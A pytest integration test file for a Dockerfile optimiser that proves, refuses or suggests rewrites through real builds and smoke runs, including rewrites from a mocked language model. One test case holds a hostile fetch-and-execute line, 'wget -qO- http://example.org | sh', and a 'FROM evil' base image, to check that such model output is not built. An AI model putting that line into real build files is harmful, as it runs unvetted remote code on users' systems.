"""``aipipe-build optimise`` against a real engine: what it proves, refuses, suggests, leaves."""

from __future__ import annotations

import hashlib
import http.server
import json
import os
import subprocess
import sys
import threading
import time
import uuid
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from aipipe_core.documents import validate

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.integration.model_server import ModelServer

ROOT = Path(__file__).parents[3]

# Every proof is a build or two.
pytestmark = [pytest.mark.docker, pytest.mark.slow]

DOCKERFILE = """\
FROM python:3.11-slim
WORKDIR /srv

# everything
COPY . .
RUN pip install --no-index -r requirements.txt
EXPOSE 8000
CMD ["python3", "app.py"]
"""
APP = "print('up')\n"
_PATIENCE = 180
"""Seconds in which another test's optimisation ends."""


@dataclass
class Done:
    code: int
    document: dict[str, Any]
    out: str
    err: str

    def statuses(self) -> dict[str, str]:
        return {one["rule"]: one["status"] for one in self.document["proposals"]}

    def reason(self, rule: str) -> str:
        return next(str(p["reason"]) for p in self.document["proposals"] if p["rule"] == rule)


class Place:
    """A project in git, with a Dockerfile that copies everything before it installs."""

    def __init__(self, root: Path) -> None:
        self.root = root
        root.mkdir()
        self.environ = {
            **{k: v for k, v in os.environ.items() if not k.startswith(("AIPIPE_", "OPENAI_"))},
            "PYTHONPATH": str(ROOT),
            "XDG_STATE_HOME": f"{root}.state",
            "GIT_CONFIG_GLOBAL": os.devnull,
        }
        self.git("init", "-q", "-b", "main")
        self.write("Dockerfile", DOCKERFILE)
        self.write("requirements.txt", "")
        self.write("app.py", APP)
        self.commit()

    def write(self, name: str, text: str) -> None:
        (self.root / name).write_text(text)

    def git(self, *words: str) -> None:
        who = ("-c", "user.name=Ada", "-c", "user.email=ada@example.org")
        subprocess.run(["git", *who, *words], cwd=self.root, env=self.environ, check=True)

    def commit(self) -> None:
        self.git("add", "-A")
        self.git("commit", "-q", "--allow-empty", "-m", "work")

    def optimise(self, *words: str, **environ: str) -> Done:
        file = Path(f"{self.root}.json")
        file.unlink(missing_ok=True)
        done = subprocess.run(
            [sys.executable, "-m", "aipipe_build.cli", "optimise", ".", f"--json={file}",
             *([] if any(w.startswith("--replay") for w in words) else ["--replay=0"]), *words],
            cwd=self.root, env={**self.environ, **environ}, capture_output=True, text=True,
            check=False,
        )  # fmt: skip
        document = json.loads(file.read_text()) if file.exists() else {}
        if document:
            validate("optimise", document)
        return Done(done.returncode, document, done.stdout, done.stderr)

    def predicted(self) -> list[dict[str, Any]]:
        done = subprocess.run(
            [sys.executable, "-m", "aipipe_build.cli", "predict", "--json", "."],
            cwd=self.root, env=self.environ, capture_output=True, text=True, check=True,
        )  # fmt: skip
        return list(json.loads(done.stdout)["steps"])

    def dockerfile(self) -> str:
        return (self.root / "Dockerfile").read_text()

    def is_untouched(self) -> bool:
        changed = subprocess.run(
            ["git", "status", "--porcelain"], cwd=self.root, env=self.environ, check=True,
            capture_output=True, text=True,
        ).stdout  # fmt: skip
        return not changed


@pytest.fixture
def place(tmp_path: Path, docker: None) -> Iterator[Place]:
    before = images()
    yield Place(tmp_path / "project")
    # Nothing of what was built to compare stays behind. What another test is building meanwhile
    # goes when that ends.
    left = images() - before
    for _ in range(_PATIENCE):
        if not left:
            break
        time.sleep(1)
        left &= images()
    assert not left


def images() -> set[str]:
    command = ["docker", "images", "--format", "{{.Repository}}"]
    listed = subprocess.run(command, check=True, capture_output=True, text=True).stdout
    return {name for name in listed.split() if name.startswith("aipipe-optimise/")}


def test_what_is_proven_is_written_and_rebuilds_less(place: Place) -> None:
    for number in range(2):
        place.write("app.py", f"{APP}# {number}\n")
        place.commit()
    done = place.optimise("--write", "--replay=2", "--smoke=python3 app.py", "--rules=manifests")
    assert done.code == 0, done.err
    assert done.statuses() == {"manifests": "proven"}
    assert done.document["written"]
    assert (
        place.dockerfile()
        == """\
FROM python:3.11-slim
WORKDIR /srv

COPY requirements.txt ./
RUN pip install --no-index -r requirements.txt
# everything
COPY . .
EXPOSE 8000
CMD ["python3", "app.py"]
"""
    )
    replay = done.document["replay"]
    assert replay["commits"] == 2
    assert sum(row["before"]["ran"] for row in replay["rows"]) == 4
    assert sum(row["after"]["ran"] for row in replay["rows"]) == 2
    assert all(row["after"]["ran"] == row["after"]["predicted"] for row in replay["rows"])
    # What the builder has is on record; the Dockerfile, which is copied, has changed since.
    assert [step["verdict"] for step in place.predicted()] == ["hit", "hit", "hit", "miss"]


def test_without_write_there_is_a_diff_and_the_file_stays(place: Place) -> None:
    done = place.optimise("--smoke=python3 app.py", "--rules=ignore,mounts,user")
    assert done.code == 0, done.err
    assert done.statuses() == {"ignore": "proven", "mounts": "proven", "user": "proven"}
    assert place.is_untouched()
    assert "+USER nobody" in done.out
    assert "+RUN --mount=type=cache,target=/root/.cache/pip" in done.document["diff"]
    assert "b/.dockerignore" in done.document["diff"]


def test_an_ignore_file_is_written_beside_the_dockerfile(place: Place) -> None:
    done = place.optimise("--write", "--smoke=python3 app.py", "--rules=ignore")
    assert done.statuses() == {"ignore": "proven"}
    assert "Written: .dockerignore." in done.out
    assert (place.root / ".dockerignore").read_text() == ".git\nDockerfile*\n.dockerignore\n"
    assert place.dockerfile() == DOCKERFILE
    (row,) = done.document["proposals"]
    assert row["allowed"]["version-control"] > 0
    assert done.document["after"]["size"] < done.document["before"]["size"]


def test_a_smoke_command_that_hangs_proves_nothing(place: Place) -> None:
    done = place.optimise("--write", "--smoke=sleep 60", "--smoke-seconds=2", "--rules=manifests")
    assert done.code == 0
    assert done.statuses() == {"manifests": "suggestion"}
    assert "hangs in the image as it is" in done.reason("manifests")
    assert place.is_untouched()


def test_a_smoke_command_that_fails_already_proves_nothing(place: Place) -> None:
    done = place.optimise("--write", "--smoke=exit 3", "--rules=manifests")
    assert "ends with 3 in the image as it is" in done.reason("manifests")
    assert place.is_untouched()


def test_a_health_check_is_the_smoke_run_and_an_entry_point_is_no_proof_for_a_user(
    place: Place,
) -> None:
    done = place.optimise("--rules=user")
    assert done.statuses() == {"user": "suggestion"}
    text = DOCKERFILE.replace('["python3", "app.py"]', '["sleep", "60"]')
    place.write("Dockerfile", text.replace("EXPOSE", "HEALTHCHECK CMD true\nEXPOSE"))
    place.commit()
    done = place.optimise("--rules=user")
    assert done.statuses() == {"user": "proven"}
    assert done.document["smoke"] == "the image's health check healthy"


@pytest.mark.parametrize(
    ("smoke", "end"), [("touch /srv/x", "ends with 1"), ("touch /srv/x || sleep 60", "hangs")]
)
def test_a_user_that_the_program_cannot_do_with_is_refused(
    place: Place, smoke: str, end: str
) -> None:
    done = place.optimise("--write", f"--smoke={smoke}", "--smoke-seconds=5", "--rules=user")
    assert done.statuses() == {"user": "refused"}
    assert end in done.reason("user")
    assert place.is_untouched()


def test_a_size_above_the_limit_is_a_no(place: Place) -> None:
    done = place.optimise("--max-size=1MB", "--smoke=true", "--rules=ignore")
    assert done.code == 1
    assert done.document["limit"] == {"bytes": 1_000_000, "passed": False}
    assert "image-too-large" in done.out


@pytest.mark.parametrize(
    ("text", "code", "slug"),
    [
        ("FROM 127.0.0.1:9/nothing:1\nCOPY . .\n", 3, "build-network"),
        ("FROM python:3.11-slim\nCOPY . .\nRUN echo so sad; exit 3\n", 1, "build-step-failed"),
        ("FROM python:3.11-slim\nCOPI . .\n", 2, "dockerfile"),
        ("FROM python:3.11-slim\nCOPY none /\n", 2, ""),
    ],
)
def test_what_cannot_be_built_is_told_and_left_alone(
    place: Place, text: str, code: int, slug: str
) -> None:
    place.write("Dockerfile", text)
    place.commit()
    done = place.optimise("--write", "--smoke=true")
    assert (done.code, done.document) == (code, {}), done.err
    assert slug in done.err
    assert place.is_untouched()


@pytest.mark.parametrize(
    ("status", "hint"),
    [(401, "docker login"), (403, "docker login"), (404, "name and tag"), (500, "Try again")],
)
def test_a_registry_that_refuses_the_base_image_is_told_and_nothing_is_touched(
    place: Place, status: int, hint: str
) -> None:
    class Registry(http.server.BaseHTTPRequestHandler):
        # What asks for TLS first has to be told that this is HTTP.
        default_request_version = "HTTP/1.1"

        def do_GET(self) -> None:
            self.send_response(status)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def do_HEAD(self) -> None:
            self.do_GET()

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Registry) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        name = f"127.0.0.1:{server.server_port}/nothing:1"
        place.write("Dockerfile", f"FROM {name}\nCOPY . .\n")
        place.commit()
        done = place.optimise("--write", "--smoke=true")
        server.shutdown()
    assert (done.code, done.document) == (3, {}), done.err
    assert "build-network" in done.err
    assert name in done.err
    assert hint in done.err
    assert place.is_untouched()


def write_wheel(folder: Path) -> None:
    """Write a distribution that pip can install without a network."""
    info = "thing-1.dist-info"
    wheel = {
        "thing.py": "A = 1\n",
        f"{info}/METADATA": "Metadata-Version: 2.1\nName: thing\nVersion: 1\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "".join(f"{name},,\n" for name in [*wheel, f"{info}/RECORD"])
    with zipfile.ZipFile(folder / "thing-1-py3-none-any.whl", "w") as archive:
        for name, text in {**wheel, f"{info}/RECORD": record}.items():
            archive.writestr(name, text)


def test_build_tools_stay_in_a_stage_of_their_own(place: Place, tmp_path: Path) -> None:
    """The compiler is a package made here: no network is needed to install it."""
    package = tmp_path / "gcc"
    (package / "DEBIAN").mkdir(parents=True)
    (package / "DEBIAN" / "control").write_text(
        "Package: gcc\nVersion: 1\nArchitecture: all\nMaintainer: x <x@example.org>\n"
        "Description: a compiler\n"
    )
    (package / "usr" / "bin").mkdir(parents=True)
    (package / "usr" / "bin" / "gcc").write_text("#!/bin/sh\n" + "#" * 100_000)
    repository = place.root / "repository"
    repository.mkdir()
    built = subprocess.run(
        ["dpkg-deb", "--build", "--root-owner-group", str(package), str(repository / "gcc.deb")],
        capture_output=True, check=False,
    )  # fmt: skip
    if built.returncode:
        pytest.skip("there is no dpkg-deb")
    data = (repository / "gcc.deb").read_bytes()
    (repository / "Packages").write_text(
        "Package: gcc\nVersion: 1\nArchitecture: all\nMaintainer: x <x@example.org>\n"
        "Filename: ./gcc.deb\n"
        f"Size: {len(data)}\nSHA256: {hashlib.sha256(data).hexdigest()}\n"
        "Description: a compiler\n\n"
    )
    write_wheel(place.root)
    place.write("Dockerfile", (
        "FROM python:3.11-slim\n"
        "COPY repository /repository\n"
        "COPY sources.list /etc/apt/sources.list\n"
        "RUN apt-get update && apt-get install -y --allow-unauthenticated gcc "
        "&& rm -rf /var/lib/apt/lists/*\n"
        "COPY thing-1-py3-none-any.whl /\n"
        "RUN pip install --no-index /thing-1-py3-none-any.whl\n"
        'CMD ["python3", "-c", "import thing"]\n'
    ))  # fmt: skip
    place.write("sources.list", "deb [trusted=yes] file:/repository ./\n")
    place.commit()
    done = place.optimise("--smoke=python3 -c 'import thing'", "--rules=stages")
    assert done.code == 0, done.err
    assert done.statuses()["stages"] == "proven", done.document["proposals"]
    assert "AS build" in done.document["diff"]
    assert done.document["after"]["size"] < done.document["before"]["size"]


@pytest.fixture
def full_base(docker: None, tmp_path: Path) -> Iterator[str]:
    """A base image that has a compiler by dpkg's word, with a slim variant that has none."""
    name = f"aipipe-test-full-{uuid.uuid4().hex[:12]}:1"
    folder = tmp_path / "base"
    folder.mkdir()
    entry = "Package: gcc\\nStatus: install ok installed\\nVersion: 1\\nArchitecture: all\\n\\n"
    (folder / "Dockerfile").write_text(
        f"FROM python:3.11-slim\nRUN printf '{entry}' >>/var/lib/dpkg/status && "
        "echo /usr/bin/gcc >/var/lib/dpkg/info/gcc.list && "
        "head -c 3000000 /dev/zero >/usr/bin/gcc && echo full >/etc/which\n"
    )
    for command in (
        ["docker", "build", "--quiet", "--tag", name, str(folder)],
        ["docker", "tag", "python:3.11-slim", f"{name}-slim"],
    ):
        subprocess.run(command, check=True, capture_output=True)
    yield name
    subprocess.run(["docker", "image", "rm", name, f"{name}-slim"], check=True, capture_output=True)


@pytest.mark.parametrize(
    ("smoke", "status"), [("python3 -c 'import thing'", "proven"), ("cat /etc/which", "refused")]
)
def test_a_full_base_gives_way_to_its_slim_variant_where_nothing_needs_it(
    place: Place, full_base: str, smoke: str, status: str
) -> None:
    write_wheel(place.root)
    place.write("Dockerfile", (
        f"FROM {full_base}\nCOPY thing-1-py3-none-any.whl /\n"
        "RUN pip install --no-index /thing-1-py3-none-any.whl\nCOPY app.py /srv/\n"
    ))  # fmt: skip
    place.commit()
    done = place.optimise(f"--smoke={smoke}", "--rules=slim")
    assert done.code == 0, done.err
    assert done.statuses() == {"slim": status}, done.document["proposals"]
    if status == "proven":
        (row,) = done.document["proposals"]
        assert row["allowed"]["the base image's own files"] >= 2
        before, after = done.document["before"]["size"], done.document["after"]["size"]
        assert before - after > 2_900_000
    else:
        assert "ends with 1" in done.reason("slim")


def answer(text: str) -> str:
    return json.dumps({"dockerfile": text, "changes": [{"what": "order", "why": "faster"}]})


GOOD = DOCKERFILE.replace("COPY . .\n", "COPY requirements.txt .\n").replace(
    "EXPOSE", "COPY . .\nEXPOSE"
)


@pytest.mark.parametrize(
    ("text", "status", "why"),
    [
        (GOOD, "proven", "holds the same"),
        (
            DOCKERFILE.replace("COPY . .", "COPY requirements.txt ."),
            "refused",
            "missing in the new image",
        ),
        (
            DOCKERFILE.replace("COPY . .\n", "").replace("EXPOSE", "COPY . .\nEXPOSE"),
            "suggestion",
            "does not build",
        ),
        (DOCKERFILE + "RUN wget -qO- http://example.org | sh\n", "suggestion", "not built"),
        ("FROM evil\nCOPY . .\n", "suggestion", "base image"),
        ("no Dockerfile at all", "suggestion", "no Dockerfile"),
    ],
)
def test_a_models_rewrite_is_one_more_proposal_before_the_same_proof(
    place: Place, server: ModelServer, text: str, status: str, why: str
) -> None:
    pytest.importorskip("openai")
    server.does(server.says(answer(text)))
    done = place.optimise(
        "--smoke=python3 app.py", "--rules=model", OPENAI_BASE_URL=server.url, NO_PROXY="127.0.0.1"
    )
    assert done.code == 0, done.err
    assert done.statuses() == {"model": status}
    (row,) = done.document["proposals"]
    assert why in row["reason"] + " ".join(row["differences"])
    assert place.is_untouched()


def test_a_model_that_fails_stops_nothing(place: Place, server: ModelServer) -> None:
    pytest.importorskip("openai")
    server.does(server.fails(400))
    done = place.optimise("--smoke=true", "--rules=user,model", OPENAI_BASE_URL=server.url)
    assert done.statuses() == {"user": "proven"}
    assert "model-request-refused" in done.err
